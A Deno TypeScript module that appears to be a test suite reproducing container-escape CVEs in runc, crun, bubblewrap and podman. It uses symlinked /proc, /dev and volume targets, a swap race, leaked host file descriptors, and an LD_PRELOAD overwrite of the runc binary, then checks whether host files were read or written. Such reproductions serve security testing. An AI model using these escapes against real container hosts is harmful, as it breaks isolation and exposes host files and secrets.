/**
 * Attacks of an image, or of a volume, on the way from nothing to a running container: its root file system leads
 * elsewhere when the engine mounts, creates and writes by path.
 *
 * @module
 */

import { type Attack, sawSecret, sh } from "./attack.ts";
import { exists, link, read, runHost, type Scene } from "./scene.ts";
import { runOrder } from "./engines.ts";

const LIBRARIES = ["/lib64", "/lib/x86_64-linux-gnu", "/lib/aarch64-linux-gnu"];

/** Copies what a program of the host is linked with. */
async function takeLibraries(scene: Scene, program: string): Promise<void> {
  const { output } = await runHost(["ldd", program]);
  for (const [path] of output.matchAll(/\/\S+\.so\S*/g)) {
    if (LIBRARIES.some((folder) => path.startsWith(folder))) {
      await runHost(["install", "-D", path, `${scene.rootfs}${path}`]);
    }
  }
}

/** Whether a program begins with what an attack writes. */
function isOverwritten(program: string): boolean {
  using file = Deno.openSync(program);
  const bytes = new Uint8Array(64);
  file.readSync(bytes);
  return new TextDecoder().decode(bytes).includes("OVERWRITTEN");
}

const MOUNTS = "cat /proc/self/mountinfo";

/** A shared volume in which a sibling exchanges a folder and a link to the host, again and again. */
async function exchange(scene: Scene): Promise<void> {
  await Deno.mkdir(`${scene.room}/shared/at`, { recursive: true });
  await Deno.mkdir(`${scene.room}/own`);
  await Deno.writeTextFile(`${scene.room}/own/file`, "");
  await link(scene.host, `${scene.room}/shared/link`);
}

function sharedVolumes({ room }: Scene, ...targets: [string, string][]) {
  return [
    { source: `${room}/shared`, target: "/shared" },
    ...targets.map(([source, target]) => ({ source: `${room}/${source}`, target })),
  ];
}

export const STARTING: readonly Attack[] = [
  {
    id: "CVE-2019-5736",
    engine: "runc",
    title: "the image's command is /proc/self/exe: its library keeps the engine's program and overwrites it",
    needs: ["program"],
    async prepare(scene, { preload }) {
      await Deno.copyFile(preload, `${scene.rootfs}/preload.so`);
    },
    async attempt(scene, engine) {
      const victim = `${scene.room}/victim`;
      await Deno.copyFile(engine.executable, victim);
      await Deno.chmod(victim, 0o755);
      await takeLibraries(scene, engine.executable);
      const env = { LD_PRELOAD: "/preload.so" };
      const evidence = await runOrder(engine, scene, {
        args: ["/proc/self/exe"],
        env,
        executable: victim,
        killAfter: 3000,
      });
      for (let i = 0; i < 20 && !isOverwritten(victim); i++) {
        await new Promise((end) => setTimeout(end, 50));
      }
      return evidence;
    },
    succeeded: ({ room }) => isOverwritten(`${room}/victim`),
  },
  {
    id: "CVE-2019-16884",
    engine: "runc",
    title: "a volume on /proc hides the real one, so that labels and masks go to a forgery",
    prepare: ({ room }) => Deno.mkdir(`${room}/forged/self/attr`, { recursive: true }),
    order: ({ room }) => ({
      args: sh("[ -d /proc/self/attr ] && [ ! -e /proc/self/status ] && echo no real one"),
      volumes: [{ source: `${room}/forged`, target: "/proc" }],
    }),
    succeeded: (_, { output }) => output.includes("no real one"),
  },
  {
    id: "CVE-2019-19921",
    engine: "runc",
    title: "/proc of the image is a link, so that who owns its target says what /proc is",
    async prepare({ rootfs }) {
      await Deno.mkdir(`${rootfs}/vol/p`, { recursive: true });
      await link("vol/p", `${rootfs}/proc`);
    },
    order: () => ({ args: sh("[ -L /proc ] && [ -e /vol/p/self/status ] && echo LED") }),
    succeeded: (_, { output }) => output.includes("LED"),
  },
  {
    id: "CVE-2023-27561",
    engine: "runc",
    title: "the same, with /proc and /sys links into a volume that a sibling shares",
    async prepare({ room, rootfs }) {
      await Deno.mkdir(`${room}/shared/p`, { recursive: true });
      await Deno.mkdir(`${room}/shared/s`, { recursive: true });
      // By the path of the volume and by that of the host: whichever is looked at.
      await Deno.mkdir(`${rootfs}/vol/p`, { recursive: true });
      await link("vol/p", `${rootfs}/proc`);
      await link("vol/s", `${rootfs}/sys`);
    },
    order: ({ room }) => ({
      args: sh("[ -L /proc ] && [ -e /proc/self ] && echo LED; [ -L /sys ] && [ -d /sys/kernel ] && echo LED"),
      volumes: [{ source: `${room}/shared`, target: "/vol" }],
    }),
    succeeded: (_, { output }) => output.includes("LED"),
  },
  {
    id: "CVE-2021-30465",
    engine: "runc",
    title: "the target of a volume lies in a shared volume and is exchanged for a link to the host",
    prepare: exchange,
    async attempt(scene, engine) {
      const { room, rootfs } = scene;
      const racer = runHost([`${rootfs}/attack`, "swap", `${room}/shared/at`, `${room}/shared/link`, "1500"]);
      const args = sh("cat /shared/at/secret /shared/link/secret 2>/dev/null; ls /shared/at/made >/dev/null");
      let output = "", code = 0;
      for (let i = 0; i < 4; i++) {
        const volumes = sharedVolumes(scene, ["own", "/shared/at/made"]);
        const one = await runOrder(engine, scene, { args, volumes });
        [output, code] = [output + one.output, one.code];
      }
      await racer;
      return { code, output };
    },
    succeeded: (scene, evidence) => exists(`${scene.host}/made`) || sawSecret(scene, evidence),
  },
  {
    id: "CVE-2024-45310",
    engine: "runc",
    title: "the missing target of a file's volume lies behind a link: an empty file is made on the host",
    async prepare(scene) {
      await exchange(scene);
      await link(scene.host, `${scene.rootfs}/data`);
    },
    order: (scene) => [
      { args: sh("true"), volumes: sharedVolumes(scene, ["own/file", "/shared/link/made"]) },
      { args: sh("true"), volumes: sharedVolumes(scene, ["own/file", "/data/made"]) },
    ],
    succeeded: ({ host }) => exists(`${host}/made`),
  },
  {
    id: "CVE-2024-21626",
    engine: "runc",
    title: "the working directory is a descriptor of the host that the engine or its caller left open",
    prepare: ({ rootfs }) => link("/proc/self/fd/9", `${rootfs}/work`),
    order: () =>
      ["/proc/self/fd/9", "/work", "/proc/self/fd/8", "/proc/self/fd/7"].map((cwd) => ({
        cwd,
        args: sh(
          "cat ./secret ../secret ../host/secret 2>/dev/null; pwd; for f in 3 4 5 6 7 8 9 10 11 12; do " +
            "cat /proc/self/fd/$f/secret 2>/dev/null; done",
        ),
      })),
    succeeded: sawSecret,
  },
  {
    id: "CVE-2025-31133",
    engine: "runc",
    title: "/dev/null of the image, or of a volume on /dev, is a link: masked files get what it leads to",
    async prepare({ room, rootfs }) {
      await Deno.mkdir(`${room}/devices`);
      for (const folder of [`${room}/devices`, `${rootfs}/dev`]) {
        await link("/proc/sys/kernel/ostype", `${folder}/null`);
      }
    },
    order: ({ room }) => {
      const args = sh('for f in kcore keys timer_list; do [ "$(head -c 5 /proc/$f)" = Linux ] && echo LED; done');
      return [{ args }, { args, volumes: [{ source: `${room}/devices`, target: "/dev" }] }];
    },
    succeeded: (_, { output }) => output.includes("LED"),
  },
  {
    id: "CVE-2025-52565",
    engine: "runc",
    title: "/dev/console of the image is a link: the terminal is mounted on what it leads to",
    needs: ["terminals"],
    async prepare({ room, rootfs }) {
      await Deno.writeTextFile(`${rootfs}/etc/hijacked`, "");
      await Deno.mkdir(`${room}/devices`);
      for (const folder of [`${room}/devices`, `${rootfs}/dev`]) await link("../etc/hijacked", `${folder}/console`);
    },
    order: ({ room }) => [
      { args: sh(MOUNTS), terminal: true },
      { args: sh(MOUNTS), terminal: true, volumes: [{ source: `${room}/devices`, target: "/dev" }] },
    ],
    succeeded: (_, { output }) => / \S*\/etc\/hijacked /.test(output),
  },
  {
    id: "CVE-2025-52881",
    engine: "runc",
    title: "a volume below /proc leads what the engine writes there to another file",
    needs: ["sysctls"],
    async prepare({ room, host }) {
      await Deno.mkdir(`${room}/forged/net/ipv4`, { recursive: true });
      await Deno.writeTextFile(`${host}/target`, "");
      await link(`${host}/target`, `${room}/forged/net/ipv4/ip_default_ttl`);
    },
    order: ({ room }) => ({
      args: sh("true"),
      sysctl: { "net.ipv4.ip_default_ttl": "77" },
      volumes: [{ source: `${room}/forged`, target: "/proc/sys" }],
    }),
    succeeded: ({ host }) => read(`${host}/target`).includes("77"),
  },
  {
    id: "CVE-2026-41579",
    engine: "runc",
    title: "/dev of the image is a link to the host: ptmx there is deleted and links are made",
    async prepare({ host, rootfs }) {
      await Deno.writeTextFile(`${host}/ptmx`, "mine");
      await link(host, `${rootfs}/dev`);
    },
    order: () => ({ args: sh("true") }),
    succeeded: ({ host }) => read(`${host}/ptmx`) !== "mine" || exists(`${host}/fd`) || exists(`${host}/null`),
  },
  {
    id: "CVE-2025-24965",
    engine: "crun (krun)",
    title: "a file that the engine writes into the root (.krun_config.json, hosts, resolv.conf) is a link to the host",
    async prepare({ host, rootfs }) {
      await link(`${host}/krun`, `${rootfs}/.krun_config.json`);
      for (const name of ["hosts", "resolv.conf", "hostname"]) await link(`${host}/${name}`, `${rootfs}/etc/${name}`);
    },
    order: (_, { has }) => ({ args: sh("true"), network: has.includes("bridge") ? "bridge" : undefined }),
    succeeded: ({ host }) => ["krun", "hosts", "resolv.conf", "hostname"].some((name) => exists(`${host}/${name}`)),
  },
  {
    id: "CVE-2026-88264",
    engine: "crun",
    title: "/dev/console of the image is a link to the host: a file is made there for the terminal",
    needs: ["terminals"],
    async prepare({ host, rootfs }) {
      await link(`../../../../../../../../..${host}/made`, `${rootfs}/dev/console`);
    },
    order: () => ({ args: sh("true"), terminal: true, bareDev: true }),
    succeeded: ({ host }) => exists(`${host}/made`),
  },
  {
    id: "CVE-2026-88265",
    engine: "crun",
    title: "/dev/null of the image is a link to a file of a volume: it becomes a standard stream, and the user's",
    async prepare({ room, rootfs }) {
      await Deno.writeTextFile(`${room}/file`, "mine");
      await link("../data", `${rootfs}/dev/null`);
    },
    order: ({ room }) => ({
      args: sh("echo written; echo written >&2"),
      user: "1000:1000",
      bareDev: true,
      volumes: [{ source: `${room}/file`, target: "/data" }],
    }),
    succeeded: ({ room }) => read(`${room}/file`) !== "mine" || Deno.statSync(`${room}/file`).uid !== 0,
  },
  {
    id: "CVE-2026-87766",
    engine: "bubblewrap",
    title: "a parent of what is made under the new root is a link to /oldroot or to the host",
    async prepare({ host, rootfs, room }) {
      await Deno.mkdir(`${room}/own`);
      await link(`/oldroot${host}`, `${rootfs}/old`);
      await link(host, `${rootfs}/data`);
      await link(`../../../../../../..${host}`, `${rootfs}/up`);
    },
    order: ({ room }) =>
      ["/old/made", "/data/made", "/up/made"].map((target) => ({
        args: sh("true"),
        volumes: [{ source: `${room}/own`, target }],
      })),
    succeeded: ({ host }) => exists(`${host}/made`),
  },
  {
    id: "CVE-2026-55686",
    engine: "podman",
    title: "the working directory of the image lies behind a link: it is made on the host",
    prepare: ({ host, rootfs }) => link(host, `${rootfs}/data`),
    order: (_, { has }) =>
      has.includes("images")
        ? { args: sh("true"), image: { WorkingDir: "/data/made" } }
        : { args: sh("true"), cwd: "/data/made" },
    succeeded: ({ host }) => exists(`${host}/made`),
  },
];
